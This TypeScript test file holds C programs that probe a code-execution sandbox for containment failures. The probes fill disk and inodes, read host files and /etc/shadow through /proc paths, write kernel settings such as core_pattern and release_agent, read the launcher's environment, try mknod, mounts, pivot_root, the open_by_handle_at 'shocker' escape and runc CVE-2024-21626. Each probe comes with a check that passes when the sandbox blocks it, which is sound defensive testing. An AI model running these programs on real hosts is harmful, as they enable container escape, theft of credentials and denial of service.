/** The file system: filling it, leaving it through links and devices, changing what is there. */
import { held, type Attack } from './lib/attack.js';
import { c, type Seen } from './lib/programs.js';
import type { World } from './lib/world.js';

const MIB = 1024 * 1024;
/** The number of bytes or files that a program reports. */
const got = (stdout: string): number => Number(/got (\d+)/.exec(stdout)?.[1] ?? Number.POSITIVE_INFINITY);
const FILES_MAY_BE = 33 * MIB;
/**
 * Passes if the reported number is limited. gVisor does not limit the number of files, and its calls take
 * several times as long. There, a program's memory or time may end before its report.
 */
const gotAtMost =
  (most: number, what: string) =>
  ({ stdout, status }: Seen, { gvisor }: World) =>
    held(
      got(stdout) <= most || (gvisor && (status === 137 || status === 124)),
      `${got(stdout)} ${what}, and an end with ${status}`,
    );

export const attacks: Attack[] = [
  c(
    'fill the disk',
    'Writes until it can write no more, in every folder that it can write to.',
    `static char block[1 << 16];
     int main(void) { trying(); long sum = 0; const char *names[] = {"a", "/tmp/b", "/var/tmp/c", "/dev/shm/d", "/dev/mqueue/e", "/run/f", "/etc/g", "/g"};
       for (int i = 0; i < 8; i++) { int file = open(names[i], O_WRONLY | O_CREAT, 0600); for (long n; sum < 1L << 30 && (n = write(file, block, sizeof block)) > 0;) sum += n; }
       printf("got %ld\\n", sum); }`,
    { look: gotAtMost(FILES_MAY_BE, 'bytes written') },
  ),
  c(
    'rust-playground 955: a full disk',
    'Fills the disk in one lab case after the other, so that the last ones have none left.',
    `static char block[1 << 16];
     int main(void) { trying(); long sum = 0, n; int file = open("a", O_WRONLY | O_CREAT, 0600);
       while ((n = write(file, block, sizeof block)) > 0) sum += n; printf("got %ld\\n", sum); }`,
    {
      request: { mode: 'submit' },
      files: [{ basename: 'lab_io.txt', contents: 'in1: a\nout1:x\nin2: b\nout2:x\nin3: c\nout3:x\n' }],
      look: ({ output }) => {
        const all = output.flatMap(({ msg }) =>
          msg.type === 'stdout' ? [...msg.data.matchAll(/got (\d+)/g)].map(([, bytes]) => Number(bytes)) : [],
        );
        held(
          all.length === 3 && all.every((bytes) => bytes <= FILES_MAY_BE && bytes > FILES_MAY_BE - 2 * MIB),
          `bytes written: ${all.join()}`,
        );
      },
    },
  ),
  c(
    'fill the inodes',
    'Makes empty files, which take no space, until there is no room for a name.',
    `int main(void) { trying(); long n = 0; char name[32]; for (; n < 200000; n++) { snprintf(name, sizeof name, "f%ld", n); int f = open(name, O_CREAT | O_WRONLY, 0600); if (f < 0) break; close(f); }
       printf("got %ld\\n", n); }`,
    { look: gotAtMost(8192, 'files made') },
  ),
  c(
    'sparse and allocated files',
    'Makes files of a terabyte, sparse and by fallocate, and writes at their far ends.',
    `int main(void) { trying(); long sum = 0; int f = open("a", O_RDWR | O_CREAT, 0600); ftruncate(f, 1L << 40);
       if (fallocate(f, 0, 0, 1L << 30) == 0) sum += 1L << 30;
       for (long at = 0; at < 1L << 40 && sum < 1L << 30; at += 1L << 24) { if (pwrite(f, "x", 1, at) != 1) break; sum += 4096; }
       printf("got %ld\\n", sum); }`,
    { look: gotAtMost(FILES_MAY_BE, 'bytes taken') },
  ),
  c(
    'deleted but open',
    'Fills files and removes their names while it keeps them open, so that no listing shows them.',
    `static char block[1 << 20];
     int main(void) { trying(); long sum = 0; for (int i = 0; i < 900; i++) { char name[16]; snprintf(name, sizeof name, "d%d", i);
       int f = open(name, O_RDWR | O_CREAT, 0600); if (f < 0) break; unlink(name); long n = write(f, block, sizeof block); if (n > 0) sum += n; else break; }
       printf("got %ld\\n", sum); }`,
    { look: gotAtMost(FILES_MAY_BE, 'bytes held') },
  ),
  c(
    'files of the host',
    'Reads a file of the host by its path, and through each way to another root.',
    (
      world,
    ) => `static void show(const char *path) { char text[256]; int f = open(path, O_RDONLY); long n = f < 0 ? 0 : read(f, text, sizeof text); if (n > 0) write(1, text, n); }
     int main(void) { trying(); const char *roots[] = {"", "/proc/1/root", "/proc/1/cwd/../../..", "/proc/self/root", "/proc/self/cwd/../../../../..", "/proc/self/task/1/root", "/proc/thread-self/root"};
       for (int i = 0; i < 7; i++) { char path[512]; snprintf(path, sizeof path, "%s%s", roots[i], "${world.secretPath}"); show(path);
         snprintf(path, sizeof path, "%s/etc/shadow", roots[i]); show(path); } }`,
  ),
  c(
    'files on the host',
    'Writes files in each folder and by each path that could be one of the host.',
    `int main(void) { trying(); const char *folders[] = {"/", "/tmp", "/etc", "/run", "/root", "/dev", "/dev/shm", "/var/tmp", "/proc/1/root/tmp", "/proc/1/cwd", "/sys/fs/cgroup", "/workspace", ".."};
       for (int i = 0; i < 13; i++) { char path[256]; snprintf(path, sizeof path, "%s/x-" TOKEN, folders[i]); int f = open(path, O_WRONLY | O_CREAT, 0666); if (f >= 0) write(f, TOKEN, 4); symlink("/etc/passwd", "link"); } }`,
  ),
  c(
    '/proc and /sys',
    'Writes what of the kernel can be set through files: core patterns, helpers, its own control group.',
    `static void put(const char *path, const char *text) { int f = open(path, O_WRONLY); if (f >= 0 && write(f, text, strlen(text)) > 0) through(path); }
     int main(void) { trying(); put("/proc/sys/kernel/core_pattern", "|/bin/" TOKEN); put("/proc/sys/kernel/modprobe", "/x"); put("/proc/sys/vm/overcommit_memory", "1");
       put("/proc/sysrq-trigger", "h"); put("/sys/fs/cgroup/memory/memory.limit_in_bytes", "-1"); put("/sys/fs/cgroup/memory.max", "max"); put("/sys/fs/cgroup/pids/pids.max", "max"); put("/sys/fs/cgroup/pids.max", "max");
       put("/sys/fs/cgroup/release_agent", "/x"); put("/sys/fs/cgroup/memory/release_agent", "/x"); put("/sys/fs/cgroup/cgroup.procs", "1"); put("/sys/kernel/uevent_helper", "/x"); put("/sys/kernel/mm/ksm/run", "1");
       put("/proc/1/oom_score_adj", "1000");
#ifndef GVISOR /* which keeps that number and never looks at it: out of memory, all of it ends */
       put("/proc/self/oom_score_adj", "-1000");
#endif
        put("/proc/self/uid_map", "0 0 1"); put("/proc/self/attr/exec", "unconfined"); put("/proc/1/mem", "x"); put("/proc/kcore", "x"); put("/proc/kmsg", "x"); }`,
  ),
  c(
    'secrets of the kernel',
    "Reads the kernel's memory, messages, keys and timers, which tell of other containers.",
    `static void show(const char *path) { char text[64]; int f = open(path, O_RDONLY | O_NONBLOCK); if (f >= 0 && read(f, text, sizeof text) > 0) through(path); }
     int main(void) { trying(); const char *paths[] = {"/proc/kcore", "/proc/kmsg", "/proc/keys", "/proc/timer_list", "/proc/sched_debug",
#ifndef GVISOR /* which shows both of the launcher, and nobody else's; what is in the first is looked at below */
         "/proc/1/environ", "/proc/1/maps",
#endif
         "/proc/1/mem", "/proc/1/stack",
         "/proc/1/syscall", "/dev/mem", "/dev/kmsg", "/dev/port", "/dev/sda", "/dev/vda", "/dev/nvme0n1", "/dev/kvm", "/dev/fuse", "/dev/net/tun", "/sys/firmware/dmi/tables/DMI", "/sys/kernel/debug/x", "/proc/acpi/wakeup", "/proc/scsi/scsi",
         "/sys/kernel/security/lockdown", "/boot/config", "/proc/latency_stats"};
       for (unsigned i = 0; i < sizeof paths / sizeof *paths; i++) show(paths[i]);
       char text[4096]; int f = open("/proc/1/environ", O_RDONLY); long n = f < 0 ? 0 : read(f, text, sizeof text); for (long i = 0; i < n; i++) if (text[i] == 0) text[i] = '\\n'; if (n > 0) write(1, text, n); }`,
    {
      look: ({ stdout }) =>
        held(!/AMQP|PASSWORD|SECCOMP_PROFILE|NAMESPACE|DOCKER/.test(stdout), 'settings of the service'),
    },
  ),
  c(
    'devices',
    "Makes the machine's disk and memory as devices of its own, and opens them.",
    `#include <sys/sysmacros.h>
     int main(void) { trying(); for (int major = 1; major < 260; major++) { if (mknod("d", S_IFBLK | 0600, makedev(major, 0)) == 0) { if (open("d", O_RDONLY) >= 0) through("a block device"); unlink("d"); }
         if (major != 1 && mknod("d", S_IFCHR | 0600, makedev(major, 1)) == 0) { if (open("d", O_RDONLY) >= 0) through("a device"); unlink("d"); } } }`,
  ),
  c(
    'the sent files',
    'Changes, replaces, renames, removes and links what was sent and built.',
    `#include <utime.h>
     int main(void) { trying(); const char *given[] = {"main.c", "main.gpr", "main.adc", "main", "attack.h"};
       close(open("own", O_CREAT | O_RDWR, 0600));
       for (int i = 0; i < 5; i++) { const char *g = given[i];
         if (open(g, O_WRONLY) >= 0 || truncate(g, 0) == 0) through("written"); if (rename(g, "x") == 0) through("renamed"); if (rename("own", g) == 0) through("replaced");
         if (unlink(g) == 0) through("removed"); if (chmod(g, 0777) == 0) through("chmod"); if (chown(g, getuid(), -1) == 0) through("chown"); if (utime(g, NULL) == 0) through("touched"); if (symlink("own", g) == 0) through("linked over");
         if (syscall(SYS_renameat2, -100, g, -100, "own", 2) == 0) through("exchanged");
         char name[32]; snprintf(name, sizeof name, "hard%d", i); if (link(g, name) == 0 && open(name, O_RDWR) >= 0) through("written by a hard link"); }
       if (rename("/workspace/sessions", "/workspace/y") == 0 || chmod(".", 0777) == 0 || rmdir("/workspace/tmp") == 0) through("a folder changed"); }`,
  ),
  c(
    'the set-uid bit',
    'Sets the bits by which a program would run as another user, on what it can make.',
    `int main(void) { trying(); int f = open("s", O_CREAT | O_RDWR, 0755); write(f, "\\177ELF", 4); fchmod(f, 06755); chown("s", 0, 0); fchmod(f, 06755); struct stat status; fstat(f, &status);
#ifndef GVISOR /* which does not list these options; what they forbid is tried here and by the devices above */
       FILE *mounts = fopen("/proc/self/mountinfo", "r"); char line[1024]; while (fgets(line, sizeof line, mounts)) if (strstr(line, " /workspace ") && !(strstr(line, "nosuid") && strstr(line, "nodev"))) through("a file system that takes such bits");
#endif
       if (status.st_uid == 0 || (status.st_mode & S_ISUID && setuid(0) == 0)) through("another user"); }`,
  ),
  c(
    'mounts',
    'Mounts file systems of its own and over what is there, and moves to another root.',
    `#include <sys/mount.h>
     int main(void) { trying(); mkdir("m", 0777); const char *types[] = {"tmpfs", "proc", "sysfs", "cgroup", "cgroup2", "overlay", "devtmpfs", "bpf", "debugfs", "fuse"};
       for (int i = 0; i < 10; i++) if (mount("x", "m", types[i], 0, "") == 0) through(types[i]);
       if (mount("/", "m", NULL, MS_BIND, NULL) == 0 || mount(NULL, "/", NULL, MS_REMOUNT | MS_BIND, NULL) == 0 || umount2("/proc", MNT_DETACH) == 0) through("a mount");
       if (syscall(SYS_fsopen, "tmpfs", 0) >= 0 || syscall(SYS_open_tree, -100, "/", 1) >= 0 || syscall(SYS_move_mount, -100, ".", -100, "m", 0) >= 0) through("the newer calls");
       if (syscall(SYS_pivot_root, ".", ".") == 0 || chroot(".") == 0) through("another root"); }`,
  ),
  c(
    'a writable file system',
    'Looks for mounts that it could write to beside its own working space.',
    `#include <sys/statvfs.h>
     int main(void) { trying(); FILE *mounts = fopen("/proc/self/mountinfo", "r"); char line[1024], path[512], options[512];
       while (fgets(line, sizeof line, mounts)) if (sscanf(line, "%*d %*d %*s %*s %511s %511s", path, options) == 2 && strncmp(path, "/workspace", 10)) {
         if (!strcmp(path, "/") && strncmp(options, "ro", 2)) through("a root that can be written");
         struct stat s; /* Docker hides files behind /dev/null. */
         if (stat(path, &s) == 0 && !S_ISCHR(s.st_mode) && access(path, W_OK) == 0 && strncmp(path, "/dev", 4) && strncmp(options, "rw", 2) == 0) through(path); } }`,
  ),
  c(
    'open_by_handle_at',
    "Opens files of the host by their handles, past every path: Docker's shocker.",
    `struct handle { unsigned bytes; int type; unsigned char f[8]; };
     int main(void) { trying(); struct handle h = {8, 1, {2}}; const char *at[] = {"/", "/workspace", "/etc/hosts", "/etc/resolv.conf"};
       for (int i = 0; i < 4; i++) { int f = open(at[i], O_RDONLY); for (int ino = 1; ino < 3000; ino++) { memcpy(h.f, &ino, 4); if (syscall(SYS_open_by_handle_at, f, &h, O_RDONLY) >= 0) { through("a file by its handle"); return 0; } } } }`,
  ),
  c(
    'runc CVE-2024-21626',
    'Looks for a descriptor that runc has left open on a folder of the host, and goes through it.',
    (
      world,
    ) => `int main(void) { trying(); for (int fd = 3; fd < 1024; fd++) { char path[64], target[256] = ""; struct stat s; snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
         if (fstat(fd, &s) == 0) { readlink(path, target, 255); through(target); }
         snprintf(path, sizeof path, "/proc/self/fd/%d/../../../../../..", fd); if (chdir(path) == 0) through("a folder");
         snprintf(path, sizeof path, "/proc/1/fd/%d", fd); if (chdir(path) == 0) through(path); int f = open(path, O_RDONLY | O_NONBLOCK); if (f >= 0 && !is_own(f)) through(path); close(f); }
       char cwd[256]; getcwd(cwd, 255); if (strncmp(cwd, "/workspace/sessions", 19)) through(cwd); int f = open("../../..${world.secretPath}", O_RDONLY); char text[64]; if (f >= 0) write(1, text, read(f, text, 64)); }`,
  ),
];
